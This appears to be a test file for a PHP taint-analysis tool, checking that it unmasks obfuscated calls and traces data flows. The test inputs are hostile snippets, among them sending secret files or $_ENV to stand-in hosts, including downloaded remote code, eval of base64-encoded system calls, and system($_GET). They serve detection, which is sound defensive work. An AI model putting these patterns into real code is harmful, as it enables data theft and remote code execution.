import { readFileSync } from 'node:fs'
import { join } from 'node:path'

import type { TaintProbe } from '@clawback/model'
import { describe, expect, it } from 'vitest'

import { calls, factsOf, flows, spec, values } from '../testkit.js'

const phpSpec: TaintProbe = {
  ...spec,
  language: 'php',
  sources: [
    { pattern: 'file_get_contents(*secret*)', tag: 'file' },
    { pattern: '=$_ENV', tag: 'env' },
    { pattern: 'getenv()', tag: 'env' },
    { pattern: '$_GET.*', tag: 'request' },
    { pattern: '$_COOKIE.*', tag: 'request' },
    { pattern: 'curl_exec', tag: 'remote' },
    { pattern: 'copy(http*)', tag: 'remote' },
  ],
  sinks: [
    { pattern: 'curl_exec', tag: 'net' },
    { pattern: 'file_get_contents(*http=*)', tag: 'net' },
    { pattern: 'fwrite(*tcp://*)', tag: 'net' },
    { pattern: 'GuzzleHttp.Client.post', tag: 'net' },
    { pattern: 'eval', tag: 'exec' },
    { pattern: 'system', tag: 'exec' },
    { pattern: 'call_user_func', tag: 'exec' },
    { pattern: 'include', tag: 'exec' },
  ],
  sanitizers: ['intval', 'escapeshellarg'],
}

const callsOf = async (code: string): Promise<string[]> => calls(await factsOf({ 'a.php': `<?php ${code}` }))

const flowsOf = async (code: string): Promise<string[]> =>
  flows(await factsOf({ 'a.php': `<?php ${code}` }, [phpSpec])).map((flow) => flow.replace(/ via .*/, ''))

it('tells what the sample calls and brings in, and leaves no gap', async () => {
  const path = join(import.meta.dirname, '..', '..', 'syntax', 'samples', 'php.sample')
  const facts = await factsOf({ 'a.php': readFileSync(path, 'utf8') })
  const imports = facts
    .filter(({ kind }) => kind === 'code.import')
    .map((fact) => `${String(fact['code.line.number'])} ${String(fact['code.import.name'])}`)
  expect({ imports, calls: calls(facts) }).toMatchInlineSnapshot(`
    {
      "calls": [
        "8 shell_exec(id {})",
        "9 shell_exec(ls -l)",
        "10 GuzzleHttp.Client(https://example.test)",
        "11 GuzzleHttp.Client.post(/in, ?)",
        "12 GuzzleHttp.Client.get(/x)",
        "13 Cache.put(k, 1)",
        "14 file_get_contents(http://example.test/a)",
        "15 eval(?)",
        "16 f(y)",
        "17 curl_setopt(?, 1, https://example.test/b)",
        "8 id({})",
        "9 ls(-l)",
      ],
      "imports": [
        "3 GuzzleHttp\\Client",
        "4 {}/vendor/autoload.php",
        "5 lib.php",
      ],
    }
  `)
  expect(facts.filter(({ kind }) => kind === 'read.gap')).toEqual([])
})

describe('texts', () => {
  it.each([
    [`f('a\\'b' . "c\\x41\\u{42}\\$d");`, "1 f(a'bcAB$d)"],
    [`$a = 'x'; f("$a {$a} \${a}");`, '1 f(x x x)'],
    ['$a = ["k" => "v"]; f("$a[k] {$a[\'k\']}");', '1 f(v v)'],
    ['f(<<<T\n  hi $x\n  T);', '1 f(  hi {})'],
    [`f(<<<'T'\nraw $x\nT);`, '1 f(raw $x)'],
    ["$a = 'x'; $a .= 'y'; f($a);", '1 f(xy)'],
    [`f(sprintf('%2$s-%1$05d%%', 7, 'a'));`, '1 f(a-7%)'],
    [`f(implode('', ['a', 'b']) . strrev('dc'));`, '1 f(abcd)'],
    ["$p = []; $p[] = 'a'; $p[] = 'b'; f(join($p));", '1 f(ab)'],
    [`f(str_replace(['#', '@'], ['', 'y'], 's#@s'));`, '1 f(sys)'],
    [`f(strtr('ifmmp', 'ifmp', 'help'));`, '1 f(hellp)'],
    [`f(substr('xxhello', 2, -1));`, '1 f(hell)'],
    [`f(base64_decode('aGVsbG8='));`, '1 f(hello)'],
    [`f(hex2bin('6869') . pack('H*', '6f'));`, '1 f(hio)'],
    [`f(str_rot13('uryyb'));`, '1 f(hello)'],
    [`f(chr(104) . chr(0x69));`, '1 f(hi)'],
    ["$s = ''; foreach ([104, 105] as $c) { $s .= chr($c); } f($s);", '1 f(hi)'],
    [`f(implode(array_map('chr', [104, 105])));`, '1 f(hi)'],
    [`f(implode(array_map(fn($c) => chr($c - 1), [105, 106])));`, '1 f(hi)'],
    [`define('A', 'x'); const B = 'y'; f(A . B . PHP_EOL);`, '1 f(xy\n)'],
    [`f(getenv('HOME') . '/.ssh'); `, '1 f(~/.ssh)'],
    [`f("{$_SERVER['HOME']}/.ssh");`, '1 f(~/.ssh)'],
    [`f(('ab' ^ '!!') . (~"\\x9e"));`, '1 f(@Ca)'],
    [`f(match (true) { 1 => 'a', default => 'b' });`, '1 f(a, b)'],
    [`$x = $y ?? 'a'; f($x ?: 'b');`, '1 f(a, b)'],
    [`[$a, [, $b]] = ['x', ['', 'y']]; ['k' => $c] = ['k' => 'z']; f($a . $c);`, '1 f(xz)'],
    ["$n = 'a'; $$n = 'x'; ${'b'} = 'y'; f($b . ${'a'});", '1 f(yx)'],
    ['${"\\x47LOBALS"}["q"] = "x"; ${${"GLOBALS"}["q"]} = "y"; f($x);', '1 f(y)'],
  ])('are folded in %s', async (code, told) => {
    expect(await callsOf(code)).toContain(told)
  })
})

describe('what is called', () => {
  it.each([
    ['$f = "sys" . "tem"; $f("id");', '1 system(id)'],
    ['EvAl("abc");', '1 eval(abc)'],
    ['\\Shell_Exec("id");', '1 shell_exec(id)'],
    ['array_udiff_assoc(["id"], ["x"], "system");', '1 system(id)'],
    ['$i["w"] = "system"; $a[] = $i; $a[0]["w"]("id");', '1 system(id)'],
    ['$o = new stdClass; $o->f = "system"; ($o->f)("id");', '1 system(id)'],
    ["preg_replace('~(.*)~ies', 'f(\"\\1\")', 'x');", '1 eval(f("\\1"), x)'],
    ['call_user_func("system", "id");', '1 system(id)'],
    ['call_user_func_array("system", ["id"]);', '1 system(id)'],
    ['array_filter(["id"], "system");', '1 system(id)'],
    ['register_shutdown_function("system", "id");', '1 system(id)'],
    ['$c = "Zip::open"; $c("a");', '1 Zip.open(a)'],
    ['$m = "post"; $o = new Http("x"); $o->$m("/a");', '1 Http.post(/a)'],
    ['use GuzzleHttp\\Client as C; $c = new C(); $c->get("/a");', '1 GuzzleHttp.Client.get(/a)'],
    [
      '(new \\GuzzleHttp\\Client(["base_uri" => "https://a.test"]))->get("/a");',
      '1 GuzzleHttp.Client.get(https://a.test/a)',
    ],
    ['use A\\{B, C\\D as E}; E::go(1); B::go(2);', '1 A.C.D.go(1)'],
    ['function g(?Mailer $m) { $m->send("a"); }', '1 Mailer.send(a)'],
    ['class K { private Mailer $m; function g() { $this->m->send("a"); } }', '1 Mailer.send(a)'],
    [
      'class K { function __construct(private Mailer $m) {} function g() { $this->m->send("a"); } }',
      '1 Mailer.send(a)',
    ],
    ['class K extends Base { function g() { parent::g("a"); } }', '1 Base.g(a)'],
    [
      'class K { const A = "x"; public static $b = "y"; static function g($c) { f(self::A . static::$b . $c); } } K::g("z");',
      '1 f(xyz)',
    ],
    ['$x = new class("v") { public $p = "w"; function __construct($q) { f($q . $this->p); } };', '1 f(vw)'],
    ['$g = strlen(...); function h($n, string ...$r) { f($n, $r); } h("a", "b", "c");', '1 f(a, b c)'],
    ['function h($a, $b = "d") { f($a . $b); } h(b: "x", a: "y");', '1 f(yx)'],
    ['trait T { function g() { f("t"); } } class K { use T; } (new K)->g();', '1 f(t)'],
    ['enum E: string { case A = "a"; const B = "b"; } f(E::B);', '1 f(b)'],
  ])('is told in %s', async (code, told) => {
    expect(await callsOf(code)).toContain(told)
  })

  it('has no end that is not there', async () => {
    const facts = await factsOf({
      'a.php': '<?php class K extends B { function __construct() { parent::__construct(); } }',
    })
    expect(values(facts, 'code.define.recursion')).toEqual([])
  })
})

describe('data is followed', () => {
  const secret = `file_get_contents('secret')`
  const file = 'file_get_contents(secret)'
  it.each([
    [
      `$c = curl_init('https://a.test'); curl_setopt($c, CURLOPT_POSTFIELDS, ${secret}); curl_exec($c);`,
      `${file} -> curl_exec`,
    ],
    [
      `$c = curl_init(); curl_setopt_array($c, [CURLOPT_POSTFIELDS => ${secret}]); curl_exec($c);`,
      `${file} -> curl_exec`,
    ],
    [
      `function s($c, $d) { curl_setopt($c, 10015, $d); return curl_exec($c); } s(curl_init('x'), ${secret});`,
      `${file} -> curl_exec`,
    ],
    [
      `$x = stream_context_create(['http' => ['content' => ${secret}]]); file_get_contents('https://a.test', false, $x);`,
      `${file} -> file_get_contents`,
    ],
    [`$s = fsockopen('192.0.2.1', 80); fwrite($s, ${secret});`, `${file} -> fwrite`],
    [`$s = stream_socket_client("tcp://$h:80"); fwrite($s, ${secret});`, `${file} -> fwrite`],
    [
      `foreach ($_ENV as $k => $v) { $all[] = "$k=$v"; } $c = new GuzzleHttp\\Client; $c->post('/', ['body' => implode($all)]);`,
      '$_ENV -> GuzzleHttp.Client.post',
    ],
    [
      `class K { public $d; function r() { $this->d = ${secret}; } function s() { (new GuzzleHttp\\Client)->post('/', [$this->d]); } }`,
      `${file} -> GuzzleHttp.Client.post`,
    ],
    [`$d = ${secret}; $f = function () use ($d) { eval($d); };`, `${file} -> eval`],
    [`$f = function () use (&$d) { $d = ${secret}; }; $f(); eval($d);`, `${file} -> eval`],
    [`function g() { global $d; $d = ${secret}; } g(); eval($d);`, `${file} -> eval`],
    [`preg_match('/x/', ${secret}, $m); eval($m[1]);`, `${file} -> eval`],
    [`if (($d = ${secret}) !== false) { eval($d); }`, `${file} -> eval`],
    [`try { $d = ${secret}; } catch (E $e) {} finally { eval($d); }`, `${file} -> eval`],
    [`function g() { yield ${secret}; } foreach (g() as $d) eval($d);`, `${file} -> eval`],
    [`system($_GET['c']);`, '$_GET.c -> system'],
    [`array_map('system', [$_GET['c']]);`, '$_GET.c -> system'],
    [`copy('https://a.test/x', '/tmp/x.php'); include '/tmp/x.php';`, 'copy(https://a.test/x) -> include'],
    [
      `$c = curl_init('https://a.test'); eval('?>' . curl_exec($c));`,
      'curl_exec(CURLOPT_URL=https://a.test) -> eval',
    ],
  ])('in %s', async (code, flow) => {
    expect(await flowsOf(code)).toContain(flow)
  })

  it.each([
    `system('ls ' . escapeshellarg($_GET['c']));`,
    `system('ls ' . (int) $_GET['c']);`,
    `function g() { $d = ${secret}; } function h($d) { eval($d); } g(); h('x');`,
    `if ($_GET['c'] === 'a') { system('ls'); }`,
    `$c = $_ENV['PORT']; eval($c);`,
  ])('and not where there is nothing in %s', async (code) => {
    expect(await flowsOf(code)).toEqual([])
  })
})

describe('other files and texts', () => {
  it('gives what a file defines, returns or is named after', async () => {
    const facts = await factsOf({
      'run.php': `<?php require __DIR__ . '/lib/fn.php'; use App\\Net\\Out; $c = require 'conf.php'; g($c['u']); (new Out)->go('b');`,
      'lib/fn.php': '<?php function g($u) { f($u); }',
      'conf.php': `<?php return ['u' => 'https://a.test'];`,
      'src/Net/Out.php': '<?php namespace App\\Net; class Out { function go($x) { f($x); } }',
    })
    expect(calls(facts)).toEqual(expect.arrayContaining(['1 f(https://a.test)', '1 f(b)']))
  })

  it('reads what is evaluated and what a shell is given', async () => {
    const facts = await factsOf({
      'a.php': `<?php eval(base64_decode('c3lzdGVtKCJ3aG9hbWkiKTs=')); proc_open(['git', 'log'], [], $p); $o = \`id -u\`;`,
      'b.sh': `php -r 'unlink("x");'`,
    })
    expect(calls(facts)).toEqual(
      expect.arrayContaining(['1 system(whoami)', '1 whoami()', '1 git(log)', '1 id(-u)', '1 unlink(x)']),
    )
  })
})

it('tells the tools of a server, and what does their work', async () => {
  const facts = await factsOf({
    'server.php': `<?php
use PhpMcp\\Server\\Attributes\\McpTool;
class Notes {
  #[McpTool(name: 'add_note', description: 'Adds a note.')]
  public function add(string $text) { f($text); }
  /** Lists all notes. */
  #[McpTool]
  public function all() { g(); }
}
Server::make()->withTool(fn (string $city) => h($city), 'weather', 'Tells the weather.')->build();
`,
  })
  const tools = facts.filter(({ kind }) => kind === 'tool.describe')
  expect(tools.map((fact) => [fact['gen_ai.tool.name'], fact['gen_ai.tool.description']])).toEqual([
    ['add_note', 'Adds a note.'],
    ['all', 'Lists all notes.'],
    ['weather', 'Tells the weather.'],
  ])
  const work = facts.filter(({ kind }) => kind === 'code.call')
  expect(
    Object.fromEntries(work.map((fact) => [fact['code.call.name'], fact['gen_ai.tool.name']])),
  ).toMatchObject({
    f: 'add_note',
    g: 'all',
    h: 'weather',
  })
})
